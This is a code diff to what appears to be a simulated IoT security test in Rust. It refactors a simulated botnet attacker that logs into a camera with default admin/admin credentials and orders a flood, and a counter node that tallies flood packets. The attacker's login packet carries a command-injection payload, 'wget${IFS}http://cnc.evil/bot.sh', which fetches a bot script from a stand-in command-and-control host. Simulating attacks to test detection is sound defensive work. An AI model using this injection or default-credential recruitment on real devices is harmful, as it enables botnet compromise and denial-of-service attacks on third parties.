@@ -7,7 +7,7 @@ use xlf::core::correlation::{CorrelationConfig, CorrelationEngine};
 use xlf::core::evidence::Layer;
 use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf::device::{SensorKind, VulnSet, Vulnerability};
-use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime};
+use xlf::simnet::{Body, Context, Duration, Medium, Node, NodeId, Packet, SimTime};
 
 /// WAN attacker that recruits the camera and orders a flood.
 struct BotnetAttacker {
@@ -23,22 +23,19 @@ impl Node for BotnetAttacker {
     fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
         match tag {
             1 => {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
+                let body = Body::Login { device, user, pass };
+                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
+                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                 ctx.send(self.gateway, login);
             }
             2 => {
-                let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
-                    .with_meta("device", "cam")
-                    .with_meta("target", self.victim.raw().to_string())
-                    .with_meta("count", "200");
+                let body = Body::AttackCmd {
+                    device: Some("cam".into()),
+                    target: self.victim,
+                    count: 200,
+                };
+                let order = Packet::new(ctx.id(), self.gateway, body, Vec::new());
                 ctx.send(self.gateway, order);
             }
             _ => {}
@@ -51,7 +48,9 @@ struct FloodCounter {
 }
 impl Node for FloodCounter {
     fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
-        if packet.kind == "ddos" {
+        if let Body::Flood { final_dst, .. } = packet.body {
+            // The gateway took the routing target when it forwarded.
+            assert_eq!(final_dst, None);
             self.hits += 1;
         }
     }
